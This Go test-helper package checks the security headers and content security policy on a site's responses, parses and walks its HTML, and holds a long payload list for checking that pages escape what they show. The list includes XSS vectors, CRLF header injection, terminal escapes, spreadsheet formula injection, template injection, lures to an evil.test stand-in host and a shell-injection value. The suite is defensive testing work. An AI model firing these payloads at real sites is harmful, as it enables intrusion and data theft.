// Package loopbacktest has what tests of pages need: a browser that can lie, the headers that each answer must have,
// texts that attack a page, and a look at the elements that it has.
package loopbacktest

import (
	"errors"
	"hash/crc32"
	"io"
	"net/http"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// Ask sends a request to the site at base as its own page has a browser do, but for the headers that are named, in
// pairs: "" takes one away. It returns the answer, wherever that redirects to.
func Ask(t testing.TB, base, method, path, body string, headers ...string) (code int, h http.Header, text string) {
	t.Helper()
	r, err := http.NewRequest(method, base+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if method == http.MethodPost {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("Origin", base)
	}
	for i := 0; i < len(headers); i += 2 {
		switch name, value := headers[i], headers[i+1]; {
		case name == "Host":
			r.Host = value
		case value == "":
			r.Header.Del(name)
		case name == "Origin" || name == "Content-Type" || name == "Cookie":
			r.Header.Set(name, value)
		default:
			r.Header.Add(name, value)
		}
	}
	c := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := c.Do(r)
	if method == http.MethodGet && errors.Is(err, io.EOF) { // a busy machine took ten seconds; a fault shows again
		resp, err = c.Do(r)
	}
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, resp.Header, string(b)
}

// Guarded wants the headers that each answer has, and the policy to have more.
func Guarded(t testing.TB, h http.Header, more ...string) {
	t.Helper()
	for name, want := range map[string]string{
		"Cache-Control": "no-store", "X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY",
		"Referrer-Policy": "same-origin", "Cross-Origin-Opener-Policy": "same-origin",
		"Cross-Origin-Resource-Policy": "same-origin",
	} {
		if h.Get(name) != want {
			t.Errorf("%s is %q", name, h.Get(name))
		}
	}
	csp := h.Get("Content-Security-Policy")
	for _, want := range append([]string{
		"default-src 'none'", "form-action 'self'", "frame-ancestors 'none'", "base-uri 'none'", "style-src 'sha256-",
	}, more...) {
		if !strings.Contains(csp, want) {
			t.Errorf("the policy is %q, without %q", csp, want)
		}
	}
	if strings.Contains(csp, "unsafe") || h.Get("Access-Control-Allow-Origin") != "" {
		t.Errorf("%v", h)
	}
}

// How many payloads a place gets with -short: one of many places, one that stands alone, and one for which a browser
// loads all pages of a site.
const (
	Few    = 16
	Many   = 90
	Loaded = 11
)

// PayloadsOf returns the payloads for a place where a text is shown. Without -short that is all of them, else a share
// of at most that many, another one for each place.
func PayloadsOf(place string, most int) (list []string) {
	if !testing.Short() {
		return Payloads
	}
	shares := (len(Payloads) + most - 1) / most
	for i := int(crc32.ChecksumIEEE([]byte(place)) % uint32(shares)); i < len(Payloads); i += shares {
		list = append(list, Payloads[i])
	}
	return list
}

// Payloads attack HTML, its attributes, URLs, styles, scripts, templates, terminals and the eye. What runs calls alert.
var Payloads = []string{
	`<script>alert(1)</script>`, `</title><script>alert(1)</script>`, `</style><script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`' onmouseover='alert(1)`, `" autofocus onfocus="alert(1)`, `javascript:alert(1)`, `JaVaScRiPt:alert(1)`,
	`data:text/html,<script>alert(1)</script>`,
	`https://a.test/"><script>`, `https://a.test/' onclick='x`, `<!--`, `-->`, `<![CDATA[<script>]]>`,
	`<svg/onload=alert(1)>`,
	`<iframe src=//evil.test>`, `<form action=//evil.test>`, `</form><form action=//evil.test>`,
	`<base href=//evil.test/>`,
	`<meta http-equiv=refresh content=0;url=//evil.test>`, `<input name=act value=enter>`,
	`<link rel=stylesheet href=//evil.test>`, `{{.Turn}}`, `{{template "page" .}}`,
	`&lt;script&gt;`, `&#x3c;script&#x3e;`, "a\r\nSet-Cookie: x=1\r\n\r\n<script>", "\x00<script>", "\u202e<script>",
	"\ufeff<b>", "\u2066evil\u2069", "+ADw-script+AD4-",
	`<textarea>`, `<plaintext>`, `<noscript><p title="</noscript><script>">`, "\xff\xfe<script>", "`-alert(1)-`",
	strings.Repeat("<b>", 5000),
	`<ScRiPt>alert(1)</sCrIpT>`, `<script src=data:,alert(1)></script>`, `<script>alert(1)//`,
	`<<script>alert(1)//<</script>`,
	`"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `</span></dd></dl><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`, `</script><script>alert(1)</script>`, `";alert(1);//`, `'};alert(1);//`,
	`<img src=x onerror=alert(1)//`, `<img src="x" onerror="alert(1)"`, `<IMG SRC=javascript:alert(1)>`,
	`<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`,
	`<audio src onerror=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)>`,
	`<marquee onstart=alert(1)>`, `<svg><animate onbegin=alert(1) attributeName=x>`,
	`<math><mtext></mtext><script>alert(1)`,
	`<svg><script>alert(1)</script></svg>`, `<svg><use href="data:image/svg+xml,<svg onload=alert(1)>">`,
	`<iframe srcdoc="<script>alert(1)</script>">`, `<object data="javascript:alert(1)">`,
	`<embed src="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">click</a>`, `<button formaction=javascript:alert(1)>`,
	`<form id=f></form><button form=f name=act value=approve>`, `<button name=act value=approve>Approve`,
	`<style>*{display:none}</style>`, `<div style="position:fixed;inset:0;background:red">`,
	`style=x:expression(alert(1))`,
	`<template><script>alert(1)</script></template>`, `<xmp><script>alert(1)</script>`, `<listing>`, `<!DOCTYPE x>`,
	`<?xml version="1.0"?><script>alert(1)</script>`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)`,
	"\u2028alert(1)\u2029", "zero\u200b\u200c\u200d\u2060width", "\u202dorder\u202c", "\u061c\u05d0\u05d1 \u0627\u0628",
	"\x1b[2J\x1b[1;1Happroved", "\x1b]8;;https://evil.test\x07click\x1b]8;;\x07", "\x08\x08\x08denied",
	"a\n\n\nApproved, once",
	"Z\u0334\u0335\u0336\u0337\u0338\u0489\u0334\u0335\u0336\u0337\u0338", strings.Repeat("W", 20000),
	strings.Repeat("\u6f22", 5000), "line" + strings.Repeat("\n", 3000), "{{.}}{{end}}{{define \"x\"}}",
	"${alert(1)}", "__proto__",

	// Attributes that end, between unusual spaces.
	`" style="animation-name:x" onanimationstart="alert(1)`, "` onmouseover=alert(1) x=`",
	`x\" onclick=alert(1) y=\"`, "\"\x0cautofocus\x0confocus\x0c=\x0calert(1)\x0cx=\"", `&quot; onclick=&quot;alert(1)`,
	// Scripts and comments that end elsewhere than a reader thinks, and markup that changes when it is parsed again.
	`<script><!--<script></script>alert(1)//-->`, `--!><script>alert(1)</script>`,
	`{"a":"</script><script>alert(1)</script>"}`, `"}],"state":"approved","x":[{"y":"`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<div><template shadowrootmode=open><script>alert(1)</script></template></div>`,
	`<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>`,
	`<svg><a><set attributeName=href to=javascript:alert(1) /><text y=9>Approve</text></a></svg>`,
	`<math href="javascript:alert(1)">Approve</math>`,
	`<script>trustedTypes.createPolicy("default",{createHTML:x=>x});document.body.innerHTML="<img src onerror=alert(1)>"`,
	// URLs.
	"java\tscript:alert(1)", "\x01 javascript:alert(1)", `javascript&colon;alert&lpar;1&rpar;`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `https://a.test@evil.test/`, `/\evil.test`,
	// What loads without a script, and what changes the page around it.
	`<img srcset="//evil.test/i 1x">`, `<video poster=//evil.test/p>`, `<a ping=//evil.test href=#>Approve</a>`,
	`<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`, `<meta charset=utf-7>`,
	`<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">`, `</style><style>@import "//evil.test/a.css";`,
	`<style>main::before{content:"Approved"}input[value^=a]{background:url(//evil.test/a)}</style>`,
	`<dialog open>Approved</dialog>`, `<input type=hidden name=turn value=x>`,
	// Names that scripts of a page look up.
	`<p id=news>Load it again.</p><form id=body><input name=dataset>`, `<img name=getElementById><a id=location>`,
	`<button data-copy=told data-events=//evil.test data-reload=yes>`,
	// Fields of an event, a header and a log.
	"\ndata: 0\n\n", "\revent: message\rid: 1\rretry: 1\r\r", "x\nContent-Security-Policy: script-src *\n\n",
	"x\n2026-08-01T12:00:00Z level=INFO msg=\"approved by alice\"", `" verdict=allow reason="owner`,
	// Terminals: the clipboard, the title, hidden words, a question, and controls of eight bits.
	"\x1b]52;c;ZXZpbA==\x1b\\", "\x1b]0;approved\x07\x1b[8m hidden \x1b[0m", "\x1b[6n\x1bP$qm\x1b\\",
	"\u009b2J\u009d0;x\u009c", "\x9b31mred", "denied\rapproved", "line\u0085next\vtab\ffeed",
	// Characters that look like others or like nothing, and bytes that are no characters.
	"\u0430pprov\u0435", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\U000e0041\U000e007f tag",
	"\u3164\u115f\uffa0filler", "\ufff9a\ufffab\ufffb\u00ad\u206a", strings.Repeat("\u202e\u2067", 200) + "x",
	"\xc0\xbcscript\xc0\xbe", "\xed\xa0\x80\xed\xb0\x80", "cut\xe2\x80", "<scr\x00ipt>alert(1)</scr\x00ipt>",
	"\ufffe\uffff\U0010ffff\ue000",
	// Texts that something else reads a second time: entities, escapes, tables, templates, formats, shells.
	`&amp;lt;script&amp;gt;`, `&#0;&#128;&#xd800;&#x110000;`, `%253Cscript%253E`, `\x3cscript\x3e`,
	`=HYPERLINK("https://evil.test","Approve")`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	`{{constructor.constructor("alert(1)")()}}`, `<%= 7*7 %>#{7*7}`, `%s%n%!d(MISSING)%[2]*v`, "$(reboot)`reboot`;reboot",
	strings.Repeat("<div><table><svg>", 400), "a" + strings.Repeat("\u0301", 900), strings.Repeat("&", 3000),
}

// Walk visits the elements of a page.
func Walk(t testing.TB, text string, visit func(*html.Node)) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type == html.ElementNode {
			visit(n)
		}
	}
}

// Shape returns a page without its words: the elements with their attributes, but for the values that must differ.
func Shape(t testing.TB, text string) (all []string) {
	t.Helper()
	Walk(t, text, func(n *html.Node) {
		s := n.Data
		for _, a := range n.Attr {
			s += " " + a.Key
			if a.Key != "value" && a.Key != "href" && a.Key != "action" {
				s += "=" + a.Val
			}
			if a.Key == "href" && a.Val != "" && !strings.HasPrefix(a.Val, "https://") {
				s += "=" + a.Val
			}
		}
		all = append(all, s)
	})
	return all
}
